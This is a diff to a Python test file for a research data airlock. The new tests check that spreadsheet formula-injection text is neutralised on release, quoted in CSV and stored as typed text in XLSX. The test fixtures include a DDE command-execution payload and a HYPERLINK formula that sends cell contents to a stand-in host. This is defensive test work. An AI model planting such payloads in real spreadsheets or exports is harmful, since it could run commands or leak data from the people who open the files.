@@ -4,19 +4,23 @@ what comes out is asserted byte for byte."""
 
 from __future__ import annotations
 
+import csv
 import hashlib
 import io
 import json
+import os
 import struct
+import tempfile
 import zipfile
 
 import pandas as pd
 import pyarrow as pa
 import pyarrow.parquet as pq
 import pytest
+from openpyxl import load_workbook
 from PIL import Image, UnidentifiedImageError
 
-from paitient.channel import ChannelError
+from paitient.channel import ChannelError, Peer
 from paitient.rules import review
 from paitient.services.airlock import weights
 from paitient.services.airlock.canonical import Refused, canonical_output, xlsx_frame
@@ -101,7 +105,7 @@ async def test_a_table_asked_as_xlsx_is_written_from_its_cells(web, airlock, peo
         members = {n: z.read(n) for n in z.namelist()}
         assert {i.date_time for i in z.infolist()} == {(1980, 1, 1, 0, 0, 0)}
     assert not any(b"4711" in body for body in members.values())
-    assert b"<dc:creator" not in members["docProps/core.xml"] and b"created" not in members["docProps/core.xml"]
+    assert not any(name.startswith("docProps/") for name in members)  # no author, no dates, no application
     sheet = members["xl/worksheets/sheet1.xml"]
     assert b"<f>" not in sheet  # the formula-looking cell is text
     # The checks judged the same cells (as CSV), and the same cells always give the same bytes.
@@ -109,6 +113,100 @@ async def test_a_table_asked_as_xlsx_is_written_from_its_cells(web, airlock, peo
     assert by["minimum_count"]["status"] == "pass" and by["canonical"]["details"]["form"] == "xlsx"
     again = canonical_output("table", "stages.parquet", buf.getvalue(), table_format="xlsx")
     assert again.data == got.body
+
+
+FORMULAS = {
+    '=HYPERLINK("http://x/?"&A2,"click")': b'"\'=HYPERLINK(""http://x/?""&A2,""click"")"',
+    "+cmd|' /C calc'!A0": b"'+cmd|' /C calc'!A0",
+    "-2+3": b"'-2+3",
+    "@SUM(A1:A9)": b"'@SUM(A1:A9)",
+    "\t=1+1": b"'\t=1+1",
+    "\r=1+1": b'"\'\n=1+1"',  # the carriage return is a line feed by now, which starts a formula as well
+    "  =1+1": b"'  =1+1",
+    "-2": b"-2",  # text that is a plain number: a spreadsheet reads the number and runs nothing
+    "Stage I": b"Stage I",
+    "'quoted": b"'quoted",  # starts with a quote already: nothing runs
+}
+"""Text cells a spreadsheet would run, each with the CSV field the airlock releases for it."""
+NUMBERS = [(-2, b"-2", -0.5, b"-0.5"), (-1, b"-1", -2.25, b"-2.25"), (0, b"0", 1e-3, b"0.001")]
+"""Typed numbers beside them (negative ones too), with their CSV fields: they stay numbers."""
+
+
+def formula_table() -> pd.DataFrame:
+    n = len(FORMULAS)
+    return pd.DataFrame(
+        {
+            "@risk": list(FORMULAS),  # a column name is text too
+            "n": [NUMBERS[i % 3][0] for i in range(n)],
+            "share": [NUMBERS[i % 3][2] for i in range(n)],
+        }
+    )
+
+
+def formula_upload(form: str) -> tuple[bytes, str]:
+    df = formula_table()
+    if form == "parquet":
+        buf = io.BytesIO()
+        df.to_parquet(buf, index=False)
+        return buf.getvalue(), "risks.parquet"
+    return df.to_csv(index=False, quoting=csv.QUOTE_NONNUMERIC).encode(), "risks.csv"  # numbers unquoted
+
+
+@pytest.mark.parametrize("form", ["parquet", "csv"])
+async def test_text_a_spreadsheet_would_run_is_released_quoted_and_numbers_stay_numbers(web, airlock, people, form):
+    upload, name = formula_upload(form)
+    rid = submit(airlock, people, "alice", upload, name=name)
+    got = await release(web, airlock, people, rid)
+    expected = b"'@risk,n,share\n" + b"".join(
+        field + b"," + NUMBERS[i % 3][1] + b"," + NUMBERS[i % 3][3] + b"\n" for i, field in enumerate(FORMULAS.values())
+    )
+    assert got.body == expected
+    # Cell by cell, as a spreadsheet's CSV import splits them.
+    rows = list(csv.reader(io.StringIO(got.body.decode("utf-8"), newline="")))
+    assert rows[0] == ["'@risk", "n", "share"]
+    for i, (text, row) in enumerate(zip(FORMULAS, rows[1:], strict=True)):
+        cell = text.replace("\r", "\n")
+        runs = cell.lstrip(" ")[:1] in "=+-@\t\n" and cell != "-2"
+        assert row[0] == ("'" + cell if runs else cell)
+        assert (int(row[1]), float(row[2])) == (NUMBERS[i % 3][0], NUMBERS[i % 3][2])  # numbers, unquoted
+    # The steward is told how many were quoted; the checks judged the cells as written.
+    by = {c["check"]: c for c in airlock.store.checks(rid)}
+    assert by["canonical"]["details"]["quoted"] == 8
+    assert "8 text cell(s) or column name(s) that a spreadsheet would run as a formula" in by["canonical"]["reason"]
+    flagged = {c["value"] for c in by["labels"]["details"]["cells"]}
+    runs = {"-2+3", "@SUM(A1:A9)", "+cmd|' /C calc'!A0", "\t=1+1", "\n=1+1", "  =1+1"}
+    assert runs <= flagged and not {"'" + v for v in runs} & flagged
+    assert by["labels"]["details"]["headers"] == ["@risk"]
+    # What a check before a request says of the same file.
+    member = people.by_username("alice")
+    with tempfile.NamedTemporaryFile() as f:
+        f.write(upload)
+        f.flush()
+        fd = os.open(f.name, os.O_RDONLY)
+        try:
+            answer = airlock.op_check(
+                Peer(pid=1, uid=member.uid, gid=65534), {"kind": "table", "filename": name, "project": "oncology"}, [fd]
+            )
+        finally:
+            os.close(fd)
+    checked = {c["check"]: c for c in answer["checks"]}
+    assert checked["canonical"]["details"]["quoted"] == 8 and answer["sha256"] == hashlib.sha256(expected).hexdigest()
+
+
+async def test_text_a_spreadsheet_would_run_is_typed_text_in_an_xlsx_without_a_quote(web, airlock, people):
+    upload, name = formula_upload("parquet")
+    rid = submit(airlock, people, "alice", upload, name=name, format="xlsx")
+    got = await release(web, airlock, people, rid)
+    ws = load_workbook(io.BytesIO(got.body)).active
+    rows = list(ws.iter_rows())
+    assert [(c.value, c.data_type) for c in rows[0]] == [("@risk", "s"), ("n", "s"), ("share", "s")]
+    for i, (text, row) in enumerate(zip(FORMULAS, rows[1:], strict=True)):
+        assert (row[0].value, row[0].data_type) == (text.replace("\r", "\n"), "s")
+        assert [(c.value, c.data_type) for c in row[1:]] == [(NUMBERS[i % 3][0], "n"), (NUMBERS[i % 3][2], "n")]
+    with zipfile.ZipFile(io.BytesIO(got.body)) as z:
+        assert b"<f>" not in z.read("xl/worksheets/sheet1.xml") and b"<f " not in z.read("xl/worksheets/sheet1.xml")
+    by = {c["check"]: c for c in airlock.store.checks(rid)}
+    assert by["canonical"]["details"]["quoted"] == 0 and "single quote" not in by["canonical"]["reason"]
 
 
 async def test_a_png_is_released_without_its_text_chunks_or_trailing_bytes(web, airlock, people):
